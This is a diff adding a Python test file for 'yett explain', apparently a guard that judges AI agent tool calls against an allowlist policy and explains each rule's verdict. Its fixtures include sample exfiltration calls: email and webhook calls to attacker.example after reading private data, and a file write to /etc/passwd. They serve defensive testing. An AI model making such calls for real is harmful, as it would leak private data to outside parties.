@@ -1,0 +1,261 @@
+"""`yett explain`: for one call, what every stage saw and what every rule says, and where in the policy it rests."""
+
+import json
+import re
+
+import yett
+from yett import DESKMATE, err, out, run
+
+MAIL = {"id": "c1", "tool": "send_email", "arguments": {"to": "risk@deskmate.internal", "subject": "s", "body": "b"}}
+THEFT = {"tool": "send_email", "arguments": {"to": "collector@attacker.example"}}
+READ = {"tool": "read_ticket", "arguments": {"id": "T-1"}}
+CONFIRMED_AND_DENIED = {"tool": "call_webhook", "arguments": {"url": "https://attacker.example/"}, "source": "tool_output",
+                        "read_private": True}
+
+# A policy in which every kind of position has a line of its own.
+POLICY = """[policy]
+name = "explained"
+version = 1
+[session]
+permissions = "clerk"
+may_choose = ["read-only"]
+[permissions.clerk.grants]
+read = ["user"]
+external_access = ["user", "tool_output"]
+write = ["user"]
+[tools]
+send = { effect = "send", sensitivity = "internal", reversible = true, destination.url = ["url"], destination.email = ["to"], destination.payees = ["payee"] }
+move = { effect = "write", sensitivity = "internal", reversible = false, path.write = ["to"] }
+look = { effect = "read", sensitivity = "private", reversible = true, tenant = ["tenant_id"], review = true }
+[egress]
+hosts = [
+  "hooks.deskmate.internal",
+  { host = "api.deskmate.example", paths = ["/v1/"] },
+]
+email_domains = ["deskmate.internal"]
+[destinations.payees]
+kind = "id"
+allow = ["P-1", "P-2"]
+[tenants.acme]
+hosts = []
+[tenants.globex]
+[paths.files]
+root = "/srv/files"
+access = "read-write"
+[approval]
+unsigned = "a test"
+[flow]
+private_to_outside = "confirm"
+[limits]
+sends_per_run = 0
+"""
+
+
+class Explain(yett.InScratchFolder):
+    def explain(self, call, *words, policy=DESKMATE, tenant=("--tenant", "acme"), form="json"):
+        text = call if isinstance(call, str) else json.dumps(call)
+        result = run("explain", "-p", policy, *tenant, "--format", form, *words, text=text, cwd=self.folder)
+        self.assertEqual((result.returncode, err(result)), (0, ""))
+        return json.loads(out(result)) if form == "json" else out(result)
+
+    def spoken(self, told):
+        return [rule["id"] for rule in told["rules"] if rule["verdict"]]
+
+    def ruling(self, told):
+        """The id of the one rule that decides; None when none does."""
+        rulings = [rule["id"] for rule in told["rules"] if rule["decides"]]
+        self.assertLessEqual(len(rulings), 1)
+        return rulings[0] if rulings else None
+
+    def test_every_rule_of_the_table_appears_in_its_order(self):
+        table = json.loads(out(run("rules", "--format", "json")))
+        self.assertGreater(len(table), 30)
+        for call in (MAIL, THEFT, READ, "nonsense", {"tool": "unheard_of"}):
+            told = self.explain(call)
+            self.assertEqual([(rule["id"], rule["stage"]) for rule in told["rules"]],
+                             [(rule["id"], rule["stage"]) for rule in table])
+            for rule, row in zip(told["rules"], table):
+                self.assertIn(rule["verdict"], (row["verdict"], None), rule["id"])
+                self.assertEqual(rule["verdict"] is None, rule["findings"] == [], rule["id"])
+
+    def test_exactly_one_rule_decides_unless_the_call_is_allowed(self):
+        calls = {
+            "destination.unlisted": THEFT,
+            "approval.dangerous": MAIL,
+            "arguments.malformed": "{",
+            "tool.unregistered": {"tool": "unheard_of"},
+            "arguments.schema": {"tool": "read_ticket", "arguments": {"id": "T-1", "path": "x", "more": 1}},
+            "flow.private_to_outside": {"tool": "call_webhook", "arguments": {"url": "https://hooks.deskmate.internal/"},
+                                        "source": "tool_output", "read_private": True},
+            # Two rows of the table have this id; here both speak.
+            "destination.malformed": {"tool": "send_email", "arguments": {"to": "nobody", "cc": "+q@deskmate.internal"}},
+        }
+        for rule, call in calls.items():
+            with self.subTest(rule):
+                told = self.explain(call)
+                self.assertEqual((told["rule"], self.ruling(told)), (rule, rule))
+                self.assertEqual(self.explain(call, form="table").count("\n           -> "), 1)
+        told = self.explain(READ)
+        self.assertEqual((told["decision"], told["rule"], self.ruling(told)), ("allow", "default.allow", None))
+        self.assertNotIn("->", self.explain(READ, form="table"))
+
+    def test_it_says_what_decide_says(self):
+        for call in (MAIL, THEFT, READ, CONFIRMED_AND_DENIED, {"tool": "unheard_of"}):
+            told = self.explain(call)
+            ruled = yett.rows(run("decide", "-p", DESKMATE, "--tenant", "acme", text=json.dumps(call)))[0]
+            for member in ("decision", "rule", "reason", "call", "policy"):
+                self.assertEqual(told[member], ruled[member], call)
+            also = {found["rule"] for found in ruled["also"]}
+            self.assertLessEqual(also, set(self.spoken(told)), call)
+
+    def test_later_stages_are_told_as_well(self):
+        told = self.explain(CONFIRMED_AND_DENIED)
+        self.assertEqual(self.spoken(told), ["destination.unlisted", "flow.private_to_outside"])
+        self.assertEqual(told["rule"], "destination.unlisted")
+
+    def test_the_tier_is_derived_from_three_fields(self):
+        told = self.explain(MAIL)
+        tier = told["tier"]
+        self.assertEqual({key: tier[key] for key in ("tier", "effect", "reversible", "sensitivity")},
+                         {"tier": "dangerous", "effect": "send", "reversible": False, "sensitivity": "internal"})
+        self.assertIn("send_email", self.line(tier["policy"]))
+        self.assertIn("tier: dangerous: effect send, reversible false, sensitivity internal", self.explain(MAIL, form="table"))
+        self.assertIn("tier: safe: effect read, reversible true, sensitivity internal", self.explain(READ, form="table"))
+        self.assertIsNone(self.explain({"tool": "unheard_of"})["tier"])
+        self.assertNotIn("tier:", self.explain({"tool": "unheard_of"}, form="table"))
+
+    def line(self, position):
+        """The line of a policy that a position names; nothing for None."""
+        if position is None:
+            return None
+        path, number, column = position.rsplit(":", 2)
+        line = (self.folder / path).read_text().splitlines()[int(number) - 1]
+        self.assertLessEqual(int(column), len(line), position)
+        return line
+
+    def test_positions_name_the_lines_that_the_rules_rest_on(self):
+        self.write("yett.toml", POLICY)
+        lines = POLICY.splitlines()
+        send = {"tool": "send", "arguments": {"url": "https://attacker.example/", "to": "x@attacker.example", "payee": "P-9"}}
+        cases = [
+            (send, "globex", "destination.unlisted", "hosts = ["),
+            (send, "acme", "destination.unlisted", "hosts = []"),
+            (send, "globex", "session.limit", "[limits]"),
+            ({"tool": "send", "arguments": {"to": "x@attacker.example"}}, "globex", "destination.unlisted", "email_domains"),
+            ({"tool": "send", "arguments": {"payee": "P-9"}}, "globex", "destination.unlisted", "allow = "),
+            ({"tool": "send", "arguments": {"url": "https://api.deskmate.example/v2/"}}, "globex", "destination.path",
+             "api.deskmate.example"),
+            ({"tool": "send", "arguments": {}}, "globex", "destination.missing", "send = "),
+            ({"tool": "send", "arguments": {"more": 1}}, "globex", "arguments.schema", "send = "),
+            ({"tool": "move", "arguments": {"to": "/etc/passwd"}}, "globex", "path.outside", "[paths.files]"),
+            ({"tool": "move", "arguments": {"to": "/srv/files/a"}}, "globex", "approval.irreversible_write", "[approval]"),
+            ({"tool": "move", "arguments": {"to": "/srv/files/a"}, "source": "tool_output"}, "globex", "permission.source",
+             "[permissions.clerk"),
+            ({"tool": "look", "arguments": {"tenant_id": "acme"}}, "globex", "tenancy.in_arguments", "look = "),
+            ({"tool": "look", "arguments": {}}, "globex", "tool.review", "look = "),
+            ({"tool": "send", "arguments": {"payee": "P-1"}, "source": "tool_output", "read_private": True}, "globex",
+             "flow.private_to_outside", "[flow]"),
+        ]
+        for call, tenant, rule, words in cases:
+            with self.subTest(f"{rule} {tenant}"):
+                told = self.explain(call, policy="yett.toml", tenant=("--tenant", tenant))
+                found = [one for one in told["rules"] if one["id"] == rule and one["verdict"]]
+                self.assertEqual(len(found), 1, self.spoken(told))
+                self.assertIn(words, self.line(found[0]["policy"]))
+        self.assertEqual(sum("hosts = []" in line for line in lines), 1)
+
+    def test_positions_name_the_entry_that_lists_a_destination(self):
+        self.write("yett.toml", POLICY)
+        for value, words in {"https://api.deskmate.example/v1/x": "api.deskmate.example",
+                             "https://hooks.deskmate.internal/x": "hooks.deskmate.internal"}.items():
+            told = self.explain({"tool": "send", "arguments": {"url": value}}, policy="yett.toml", tenant=("--tenant", "globex"))
+            saw = [line for stage in told["stages"] if stage["stage"] == "destination" for line in stage["saw"]]
+            self.assertEqual(len(saw), 1)
+            position = re.search(r"yett\.toml:\d+:\d+", saw[0])[0]
+            self.assertIn(words, self.line(position))
+
+    def test_both_languages(self):
+        english, chinese = self.explain(THEFT), self.explain(THEFT, "--lang", "zh")
+        self.assertEqual(english["reason"], "recipient domain not on the allowlist: attacker.example")
+        self.assertEqual(chinese["reason"], "收件域名不在白名单里：attacker.example")
+        self.assertEqual(self.spoken(english), self.spoken(chinese))
+        for told, other in zip(english["stages"], chinese["stages"]):
+            self.assertEqual((told["stage"], len(told["saw"])), (other["stage"], len(other["saw"])))
+        text = self.explain(THEFT, "--lang", "zh", form="table")
+        for words in ("危险等级", "裁决", "没有异议", "destination.unlisted"):
+            self.assertIn(words, text)
+        for words in ("nothing against", "decision", "the run"):
+            self.assertNotIn(words, text)
+
+    def test_leaving_a_rule_out_moves_the_ruling(self):
+        without = lambda *rules: self.explain(THEFT, *(word for rule in rules for word in ("--without", rule)))
+        self.assertEqual(self.ruling(without()), "destination.unlisted")
+        weaker = without("destination.unlisted")
+        self.assertEqual((weaker["decision"], self.ruling(weaker)), ("confirm", "approval.dangerous"))
+        self.assertNotIn("destination.unlisted", [rule["id"] for rule in weaker["rules"]])
+        weakest = without("destination.unlisted", "approval.dangerous")
+        self.assertEqual((weakest["decision"], self.ruling(weakest)), ("allow", None))
+
+    def test_what_cannot_be_read_is_explained_as_a_denied_call(self):
+        for text in ("", "nonsense", "[]", "{}", json.dumps(READ) + "\n" + json.dumps(READ), '{"tool":"read_ticket","approved":true}',
+                     b"\xff\xfe".decode("latin-1"), '{"tool":"read_ticket","arguments":[]}'):
+            with self.subTest(text):
+                told = self.explain(text)
+                self.assertEqual((told["decision"], told["rule"]), ("deny", "arguments.malformed"))
+                self.assertEqual(self.ruling(told), "arguments.malformed")
+                self.assertIsNone(told["call"])
+
+    def test_the_call_comes_from_a_file_or_from_standard_input(self):
+        path = self.write("call.json", json.dumps(THEFT))
+        words = ["explain", "-p", DESKMATE, "--tenant", "acme", "--now", "2026-12-01T00:00:00Z", "--expires", "1h"]
+        told = [run(*words, path), run(*words, "-", text=json.dumps(THEFT)), run(*words, text=json.dumps(THEFT))]
+        self.assertEqual({one.returncode for one in told}, {0})
+        self.assertEqual(len({out(one) for one in told}), 1)
+
+    def test_wrong_words_exit_with_2(self):
+        for words in (["--format", "csv"], ["--without", "no.rule"], ["--now", "soon"], ["no-such-file"], ["--permissions", "full access"]):
+            result = run("explain", "-p", DESKMATE, "--tenant", "acme", *words, text=json.dumps(READ), cwd=self.folder)
+            self.assertEqual((result.returncode, out(result)), (2, ""), words)
+            self.assertTrue(err(result), words)
+
+    def test_nothing_that_a_call_says_is_repeated(self):
+        """No value, no key that the policy does not name, no local part, no path of a URL: whoever reads over a shoulder."""
+        canary = "c4n4ry"
+        calls = [
+            {"tool": "send_email", "arguments": {"to": f"{canary}@deskmate.internal", "cc": [f"{canary}+x@attacker.example"],
+                                                 "bcc": canary, "subject": canary, "body": f"{canary}\n{canary}"}},
+            {"tool": "call_webhook", "arguments": {"url": f"https://hooks.deskmate.internal/{canary}?{canary}#{canary}",
+                                                   "body": {canary: [canary]}}},
+            {"tool": "call_webhook", "arguments": {"url": f"{canary}://{canary}@{canary}/"}},
+            {"tool": "call_webhook", "arguments": {"url": [canary, {canary: canary}]}},
+            {"tool": "read_ticket", "arguments": {"id": canary, canary: canary, "ID": canary}},
+            {"tool": "search_customers", "arguments": {"tenant_id": canary, "query": canary}},
+            {"tool": "update_ticket", "arguments": {"id": "T-1", "note": {"tenant": canary, "deep": [{"org_id": canary}]}}},
+            {"tool": "read_contract", "arguments": {"customer": canary, "tenant_id": {"x": canary}}},
+        ]
+        self.write("yett.toml", POLICY)
+        elsewhere = [
+            {"tool": "move", "arguments": {"to": f"/srv/files/{canary}"}},
+            {"tool": "move", "arguments": {"to": f"/{canary}/../x"}},
+            {"tool": "send", "arguments": {"payee": canary, "url": canary}},
+        ]
+        for policy, some in ((DESKMATE, calls), ("yett.toml", elsewhere)):
+            for call in some:
+                for form in ("json", "table"):
+                    for language in ("en", "zh"):
+                        text = self.explain(call, "--lang", language, policy=policy, form=form)
+                        self.assertNotIn(canary, text if isinstance(text, str) else json.dumps(text), call)
+
+    def test_a_typical_call_fits_a_screen(self):
+        self.write("yett.toml", DESKMATE.read_text())
+        for call in (MAIL, THEFT, READ, CONFIRMED_AND_DENIED, "nonsense"):
+            for language in ("en", "zh"):
+                text = self.explain(call, "--lang", language, policy="yett.toml", form="table")
+                lines = text.splitlines()
+                self.assertLessEqual(len(lines), 50)
+                self.assertEqual([line for line in lines if len(line) > 130], [])
+                self.assertEqual([line for line in lines if line != line.rstrip()], [])
+
+
+if __name__ == "__main__":
+    yett.main()
